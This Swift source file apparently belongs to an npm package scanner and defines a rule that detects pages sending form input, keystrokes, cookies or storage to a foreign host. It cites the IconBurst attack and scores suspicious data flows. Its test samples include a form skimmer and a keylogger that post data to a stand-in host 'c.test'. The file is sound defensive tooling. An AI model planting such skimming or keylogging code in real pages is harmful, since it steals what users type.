// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// What somebody types into a page, its cookies or storage get to a host that the code names.
package struct PageTheft: Rule {
    package init() {}

    package let card = RuleCard(
        id: "page-theft", kind: .content, title: "Sends what people type or store in a page", severity: .high, confidence: .medium,
        status: .stable, revision: 1, group: "behaviour",
        rationale: "IconBurst (2022) listened to forms and sent them to its own host; so do most thefts of cards in shops.",
        knownFalseAlarms: ["Recorders of sessions and analytics that send to their own service.", "A form that is sent where it says."],
        references: ["https://www.reversinglabs.com/blog/iconburst-npm-software-supply-chain-attack-grabs-data-from-apps-websites"],
        fires: [
            RuleSample(
                "forms",
                .sample([
                    "index.js":
                        "$(document).on('submit', 'form', function () { $.ajax({ url: 'https://c.test/in', data: 1 }); fetch('https://c.test/in', { method: 'POST', body: $('form').serialize() }); });"
                ])),
            RuleSample(
                "keys",
                .sample([
                    "index.js":
                        "let b = ''; document.addEventListener('keydown', e => { b += e.key; navigator.sendBeacon('https://c.test/k', b); });"
                ])),
        ],
        staysSilent: [
            RuleSample(
                "a token against forged requests",
                .sample([
                    "index.js":
                        "exports.post = (url, d) => fetch(url, { headers: { 'X-CSRF': document.cookie.match(/csrf=(.*)/)[1] }, body: d });"
                ])),
            RuleSample("remembers a choice", .sample(["index.js": "localStorage.theme = 'dark'; fetch('https://a.test/x');"])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        let wanted: Taint = [.pageData, .keyboard]
        var best: (flow: Flow, hosts: [String], strength: Double)?
        for flow in facts.flows(wanted, into: .network) where flow.through.count == 1 {
            let own = flow.fact.hosts.filter { !facts.isOwn($0) }
            guard !own.isEmpty || flow.fact.isDisguised else { continue }
            let moment = facts.moment(of: flow.fact, in: flow.file)
            var strength = moment.isByItself ? 0.5 : 0.1
            if flow.taint.contains(.keyboard) { strength += 0.2 }
            if !flow.taint.isDisjoint(with: [.encoded]) { strength += 0.1 }
            if flow.fact.isDisguised { strength += 0.5 }
            if strength > (best?.strength ?? 0) { best = (flow, own.sorted(), strength) }
        }
        guard let best else { return [] }
        return [
            card.finding(
                "\(facts.files[best.flow.file].path) sends \(PlainWords.list(best.flow.taint.intersection(wanted).words)) to \(best.hosts.first ?? "the network")\(facts.moment(of: best.flow.fact, in: best.flow.file).words)",
                strength: best.strength, evidence: facts.evidence(best.flow, from: wanted),
                meaning: "People who use a page that holds this give away what they type.")
        ]
    }
}
